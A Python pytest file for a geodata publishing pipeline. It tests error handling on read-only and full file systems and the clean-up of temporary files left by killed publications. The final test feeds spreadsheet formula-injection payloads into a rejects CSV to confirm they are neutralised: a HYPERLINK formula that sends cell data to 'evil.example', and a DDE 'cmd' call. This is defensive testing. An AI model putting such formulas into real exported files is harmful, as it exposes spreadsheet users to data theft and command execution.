"""Publication when the file system fails: one line naming the file and the OS error, the previous file
kept, no rejects for a publication that did not happen, and no debris left by killed publications."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import dagster as dg
import pytest

from assets.ingest import build_layer, publish_layer
from assets.publish import PublicationError, publish_geopackage, write_rejects
from assets.records import Reject
from layers.catalog import load_catalog
from layers.settings import REPO_ROOT
from pipelines.factory import layer_asset
from pipelines.resources import GeoportalResource
from tests.test_bad_input import GOOD_POINT, works_city
from tests.test_gpkg_writer import writers_of
from tests.test_publish import REPAIRS, read_counts, repairs_frame


@contextmanager
def tmpfs(where: Path, size: str) -> Iterator[Path]:
    """A real, small file system of its own (root ignores chmod, so read-only and full must be real)."""
    where.mkdir(parents=True, exist_ok=True)
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs ({mounted.stderr.decode().strip()}): needs root and mount(8)")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def read_only(where: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(where)], check=True)


def test_read_only_folder_fails_with_the_path_and_the_os_error_and_keeps_the_old_file(tmp_path):
    with tmpfs(tmp_path / "published", "8m") as folder:
        target = publish_geopackage(repairs_frame(10), REPAIRS, folder / "repairs.gpkg")
        read_only(folder)
        with pytest.raises(PublicationError) as caught:
            publish_geopackage(repairs_frame(50), REPAIRS, target)
        # the clean-up of the temporary file fails too on a read-only folder: it must not replace this
        assert str(caught.value) == f"cannot publish {target}: [Errno 30] Read-only file system"
        assert read_counts(target) == (10, 10)


def test_full_disk_fails_with_the_path_and_the_os_error_and_leaves_nothing_behind(tmp_path):
    with tmpfs(tmp_path / "published", "1m") as folder:
        target = publish_geopackage(repairs_frame(10), REPAIRS, folder / "repairs.gpkg")
        with pytest.raises(PublicationError) as caught:
            publish_geopackage(repairs_frame(30000), REPAIRS, target)
        assert str(caught.value) == f"cannot publish {target}: [Errno 28] No space left on device"
        assert "\n" not in str(caught.value)
        assert read_counts(target) == (10, 10)
        assert sorted(p.name for p in folder.iterdir()) == ["repairs.gpkg"]


def test_no_rejects_file_for_a_publication_that_did_not_happen(tmp_path):
    paths = works_city(tmp_path, [f"W-1;Теплосеть;01.11.2026;;{GOOD_POINT}", "W-2;Ливнёвка;01.11.2026;;"])
    catalog = load_catalog(paths.catalog_dir)
    build = build_layer(catalog["works"], catalog, paths)
    with tmpfs(paths.published_dir, "8m") as folder:
        read_only(folder)
        with pytest.raises(PublicationError, match=r"\[Errno 30\] Read-only file system"):
            publish_layer(build, paths)
    assert not paths.rejects_path("works").exists()


def test_a_read_only_folder_fails_the_layer_in_one_line_naming_path_and_error(tmp_path):
    paths = works_city(tmp_path, [f"W-1;Теплосеть;01.11.2026;;{GOOD_POINT}"])
    catalog = load_catalog(paths.catalog_dir)
    with tmpfs(paths.published_dir, "8m") as folder:
        read_only(folder)
        result = dg.materialize(
            [layer_asset(catalog["works"])], resources={"geoportal": GeoportalResource.of(paths)}, raise_on_error=False
        )
    failure = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE")
    message = failure.event_specific_data.error.message.strip().splitlines()[0].split("Failure: ", 1)[-1]
    # the first file the publication writes in the folder is named: the GeoPackage or the change log beside it
    assert re.fullmatch(
        rf"works: cannot (publish|record the changes in) {re.escape(str(paths.published_dir))}/[\w.]+: "
        r"\[Errno 30\] Read-only file system",
        message,
    ), message
    assert not paths.rejects_path("works").exists()


KILLED_PUBLISHER = textwrap.dedent(
    """
    import sys
    sys.path.insert(0, {repo!r})
    from pathlib import Path
    from tests.test_publish import REPAIRS, repairs_frame
    from assets.publish import publish_geopackage
    frame = repairs_frame(200000)
    print("ready", flush=True)
    while True:
        publish_geopackage(frame, REPAIRS, Path({target!r}))
    """
)


def _kill_while_writing(target: Path) -> None:
    """Start a publisher, wait (with a deadline) until its temporary file exists, then SIGKILL it."""
    script = KILLED_PUBLISHER.format(repo=str(REPO_ROOT), target=str(target))
    publisher = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        assert publisher.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 60
        while not list(target.parent.glob(f".{target.stem}.{publisher.pid}-*.part.gpkg*")):
            assert time.monotonic() < deadline, "the publisher never started writing"
            time.sleep(0.01)
    finally:
        publisher.send_signal(signal.SIGKILL)
        publisher.wait()


def test_debris_of_killed_publications_is_removed_before_publishing(tmp_path):
    target = tmp_path / "repairs.gpkg"
    for _ in range(3):
        _kill_while_writing(target)
    debris = list(tmp_path.glob(".repairs.*.part*"))
    assert debris, "a killed publication leaves its temporary file (and journal)"
    # nor does a killed publication leave its GeoPackage writer (a child process) running
    deadline = time.monotonic() + 60
    while writers_of(tmp_path):
        assert time.monotonic() < deadline, "the writer of a killed publication is still running"
        time.sleep(0.05)
    # killed while the spatial index was packed beside the file (a pid no process has)
    scratch = tmp_path / ".repairs.4194999-0123456789abcdef0123456789abcdef.part.gpkg-rtree"
    scratch.write_bytes(b"x")
    os.utime(scratch, (time.time() - 3600, time.time() - 3600))
    # not ours to remove: another layer's file, a file of a living writer, a file newer than this publication
    other_layer = tmp_path / ".repairs_old.123-0123456789abcdef0123456789abcdef.part.gpkg"
    living = tmp_path / f".repairs.{os.getppid()}-0123456789abcdef0123456789abcdef.part.gpkg"
    for kept in (other_layer, living):
        kept.write_bytes(b"x")
        os.utime(kept, (time.time() - 3600, time.time() - 3600))
    publish_geopackage(repairs_frame(5), REPAIRS, target)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == sorted(
        [other_layer.name, living.name]
    )
    assert read_counts(target) == (5, 5)


def test_rejects_stay_data_when_opened_in_a_spreadsheet(tmp_path):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+7 (3952) 20-00-00", "-1", "@SUM(A1)", "\tx", "\ry"]
    rejects = [Reject("repairs/permits.csv", "line 2", "contractor", "not allowed", raw) for raw in formulas]
    rejects.append(Reject("=cmd|' /C calc'!A0", "line 3", "@field", "-reason", "plain"))
    path = write_rejects(rejects, tmp_path / "repairs.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["raw"] for r in rows[:6]] == ["'" + raw for raw in formulas]
    assert (rows[6]["source_file"], rows[6]["field"], rows[6]["reason"], rows[6]["raw"]) == (
        "'=cmd|' /C calc'!A0",
        "'@field",
        "'-reason",
        "plain",
    )
    assert rows[0]["record"] == "line 2" and rows[0]["reason"] == "not allowed"
    assert not list(tmp_path.glob(".*part*")), "written aside and renamed"
